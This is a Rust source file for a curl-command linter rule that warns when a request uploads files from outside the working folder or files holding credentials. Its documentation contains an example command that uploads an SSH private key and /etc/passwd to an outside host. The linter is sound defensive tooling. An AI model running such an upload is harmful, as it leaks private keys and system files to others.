//! `file-given-away`

use crate::api::Address;
use crate::curl::files::files;
use crate::knowledge::hosts;
use crate::knowledge::paths::{self, Deed};
use crate::lint::{Check, Checks, Group, Rule};
use crate::text::{Level, visible};

pub(super) const RULE: Rule = Rule {
    name: "file-given-away",
    group: Group::Secret,
    level: Level::Note,
    since: "0.1.0",
    aliases: &[],
    brief: "a file from elsewhere on the machine that is sent",
    docs: r#"
`@` before the name of a file sends what it holds. Of a command found somewhere, that should be a file made for it.

```sh bad
curl --data-binary @/srv/reports/may.csv https://api.shop.example/import
```

A file in the folder was put there.

```sh good
curl --data-binary @may.csv https://api.shop.example/import
```

Of files that hold credentials this is a warning (`grammar/paths.tsv`).

```sh bad 2
curl -F "key=@$HOME/.ssh/id_rsa" -F users=@/etc/passwd https://help.example/upload
```
"#,
    check: Checks::Command(check),
};

fn check(on: &mut Check<'_>) {
    let subject = on.subject;
    for (request, _) in subject.requests() {
        let address = Address::read(&request.url);
        let host = address.as_ref().map_or("the host", Address::host_name);
        if hosts::is_local(host) {
            continue;
        }
        for file in files(request).into_iter().filter(|file| file.deed == Deed::Read) {
            let path = file.path(request);
            let (shown, host) = (visible(&path), visible(host));
            let span = file.value.whole();
            if let Some(what) = paths::holds(&path, Deed::Read) {
                on.report(span, format!("`{shown}` is sent to `{host}`"))
                    .level(Level::Warning)
                    .why(format!("it holds {what}"))
                    .advise("send nothing that you would not post");
            } else if paths::is_outside(&path) {
                on.report(span, format!("`{shown}` is sent, which is not below the folder that the command runs in"))
                    .why("whoever wrote the command cannot know what it holds on your machine")
                    .advise("look into it first, or name a file made for the purpose");
            }
        }
    }
}
